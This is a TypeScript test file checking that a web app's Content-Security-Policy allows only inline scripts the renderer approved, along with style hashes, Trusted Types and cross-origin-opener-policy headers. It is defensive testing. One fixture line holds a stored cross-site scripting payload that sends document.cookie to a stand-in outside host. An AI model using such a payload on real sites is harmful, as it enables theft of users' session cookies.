import { createHash } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import { testApp } from "../../../tests/support/app.ts";
import { serve } from "../../../tests/support/serve.ts";
import { createApp } from "../app/app.ts";
import { createPages } from "../app/pages.ts";
import { routes } from "../app/routes.ts";

const own = "document.title = 1";
const stored = 'fetch("https://elsewhere.example/" + document.cookie)';

let site: Awaited<ReturnType<typeof testApp>>;
let server: Awaited<ReturnType<typeof serve>>;
beforeAll(async () => {
	site = await testApp();
	const { services } = site;
	const { settings } = services;
	const pages = createPages({
		render: async (_, { approveScript }) => {
			approveScript(own);
			const html = `<html><script>${own}</script><p>stored text: <script>${stored}</script><style>p { color: red }</style></p></html>`;
			return new Response(html, { headers: { "content-type": "text/html" } });
		},
		app: () => app,
		settings,
	});
	const app = createApp({ services, routes, pages });
	server = await serve({ app, settings });
});
afterAll(async () => {
	server.close();
	await site.close();
});

const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

/** The policy's values, by directive. */
async function policyOf(path: string): Promise<Record<string, string>> {
	const { headers } = await server.send(path);
	const policy = String(headers["content-security-policy"]).split("; ");
	return Object.fromEntries(policy.map((part) => [part.split(" ", 1)[0], part.slice(part.indexOf(" ") + 1)]));
}

test("an inline script runs only if its renderer wrote it", async () => {
	for (const _ of ["made for the first guest", "kept for the second"])
		expect((await policyOf("/"))["script-src"]).toBe(`'self' ${hashOf(own)}`);
});

test("an inline style likewise; pages without a stylesheet allow their own by its hash", async () => {
	expect((await policyOf("/"))["style-src"]).toBe("'self'");
	for (const path of ["/api/docs", "/dev/mail"]) {
		const { body } = await server.send(path);
		const style = /<style>(.*?)<\/style>/s.exec(body)?.[1] ?? "";
		expect((await policyOf(path))["style-src"]).toBe(`'self' ${hashOf(style)}`);
		expect((await policyOf(path))["script-src"]).toBe("'self'");
	}
});

test("only the site's own Trusted Types policies apply, and other windows can't reach a page", async () => {
	const policy = await policyOf("/");
	expect([policy["require-trusted-types-for"], policy["trusted-types"]]).toEqual(["'script'", "default late worker"]);
	const { headers } = await server.send("/");
	expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
	for (const name of ["x-inline-scripts", "x-inline-styles"]) expect(headers).not.toHaveProperty(name);
});
